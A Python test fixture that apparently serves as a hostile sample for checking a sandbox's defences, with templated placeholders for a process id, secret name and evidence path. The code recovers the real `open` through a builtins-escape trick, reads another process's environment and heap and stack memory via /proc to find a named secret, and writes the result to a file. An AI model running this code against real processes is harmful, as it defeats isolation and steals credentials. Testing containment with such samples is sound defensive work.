# Same uid: reads the Alchemist process's environment and memory through /proc/<pid>/ for the
# secret; found, it goes into a file and the votes. Stopped by the empty root (no /proc),
# Landlock, seccomp (no open) and, as root, a uid of its own.
def _os_globals():
    for cls in ().__class__.__base__.__subclasses__():
        if cls.__name__ == "_wrap_close":
            return cls.__init__.__globals__
    raise RuntimeError("no way out found")


def label(text):
    g = _os_globals()
    real_open = g["__builtins__"]["open"]
    name = b"@SECRET_NAME@="
    with real_open("/proc/@PARENT_PID@/environ", "rb") as f:
        found = [v for v in f.read().split(b"\0") if v.startswith(name)]
    with (
        real_open("/proc/@PARENT_PID@/maps") as maps,
        real_open("/proc/@PARENT_PID@/mem", "rb") as mem,
    ):
        for line in maps:
            if "[heap]" in line or "[stack]" in line:
                start, stop = (int(x, 16) for x in line.split()[0].split("-"))
                mem.seek(start)
                chunk = mem.read(stop - start)
                at = chunk.find(name)
                if at >= 0:
                    found.append(chunk[at : at + 80].split(b"\0")[0])
    with real_open("@EVIDENCE@/proc_mem.txt", "wb") as f:
        f.write(b"\n".join(found))
    return 1
